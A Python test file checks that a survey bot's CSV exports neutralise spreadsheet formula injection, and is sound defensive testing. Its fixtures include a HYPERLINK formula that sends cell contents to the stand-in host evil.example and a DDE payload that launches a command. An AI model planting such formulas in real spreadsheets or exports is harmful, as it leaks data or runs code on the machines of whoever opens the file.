"""CSV formula injection in pulse exports: prompts, choice labels, comments and names that a spreadsheet would
run reach `/pulse export` and `earshot pulse-export` neutralised (a quote in front), in UTF-8 with a BOM."""

from __future__ import annotations

import asyncio
import os
import subprocess
import sys
from pathlib import Path

from adapters.cli import main
from bot.spreadsheet import FORMULA_STARTS, read_csv
from storage.tables import Person as PersonRow
from tests.pulses.support import buttons, command, exported_csv, launched_card, submit, vote
from tests.support.core import CoreHarness

PROMPT = '=HYPERLINK("http://evil.example/?"&A1,"Lunch?")'
LABELS = ["=1+1", "+2", "-3", "@SUM(1)"]
COMMENTS = {  # as typed -> as stored after cleaning (control characters and surrounding space go)
    "u0": ("=HYPERLINK(\"http://evil.example\",\"x\")", "=HYPERLINK(\"http://evil.example\",\"x\")"),
    "u1": ("+1+2", "+1+2"),
    "u2": ("-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    "u3": ("@SUM(A1:A9)", "@SUM(A1:A9)"),
    "u4": ("\t=1+1", "=1+1"),
    "u5": ("\r=2+2", "=2+2"),
    "u6": ("ขอบคุณสำหรับมื้อกลางวัน", "ขอบคุณสำหรับมื้อกลางวัน"),
}


async def hostile_pulse(h: CoreHarness) -> None:
    """A named pulse whose prompt and choices are formulas, answered with formula comments; u0 is named one."""
    async with h.db.session() as session:
        session.add(PersonRow(platform="test", user_id="u0", display_name="@u0 -the first"))
        await session.commit()
    reply = await command(h, f"'{PROMPT}' choices:\"{', '.join(LABELS)}\" comment named")
    assert "goes to this channel" in reply.last_text, reply.last_text
    card = await launched_card(h)
    comment_button = next(action for action, _, _ in buttons(card) if action.startswith("pulse:comment:"))
    for n, (user, (typed, _)) in enumerate(COMMENTS.items()):
        (form,) = (await vote(h, user, comment_button, "")).forms
        assert await submit(h, user, form.form_id, {"answer": str(n % len(LABELS)), "comment": typed}) is None


def assert_neutralised(data: bytes) -> None:
    assert data.startswith("\ufeff".encode())
    header, *rows = read_csv(data)
    assert header == ["question", "answer", "score", "comment", "answered_on", "person", "name"]
    assert len(rows) == len(COMMENTS)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert {row[0] for row in rows} == {"'" + PROMPT}
    assert {row[1] for row in rows} == {"'" + label for label in LABELS}
    assert sorted(row[3] for row in rows) == sorted(
        stored if stored.startswith("ข") else "'" + stored for _, stored in COMMENTS.values())
    assert next(row[6] for row in rows if row[5] == "test:u0") == "'@u0 -the first"


async def test_pulse_export_neutralises_every_formula(harness: CoreHarness) -> None:
    await hostile_pulse(harness)
    text = await exported_csv(harness)
    assert_neutralised(("\ufeff" + text).encode())
    assert "ขอบคุณสำหรับมื้อกลางวัน" in text


async def test_the_cli_export_neutralises_every_formula_to_a_file_and_to_stdout(
        harness: CoreHarness, db_url: str, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    await hostile_pulse(harness)
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("EARSHOT_ANON_MIN", "3")
    monkeypatch.setenv("EARSHOT_COMMENT_MIN", "5")
    out = tmp_path / "pulse.csv"
    out.write_text("an older file, open to everyone")
    out.chmod(0o644)
    assert await asyncio.to_thread(main, ["pulse-export", "1", "-o", str(out)]) == 0
    assert_neutralised(out.read_bytes())
    assert out.stat().st_mode & 0o777 == 0o600  # people's answers: readable by their owner only, as the database
    result = await asyncio.to_thread(subprocess.run, [sys.executable, "-m", "adapters.cli", "pulse-export", "1"],
                                     capture_output=True, env={**os.environ, "PYTHONIOENCODING": "ascii"},
                                     timeout=120)
    assert result.returncode == 0, result.stderr
    assert result.stdout == out.read_bytes()  # the same bytes, BOM and Thai, whatever the terminal's encoding
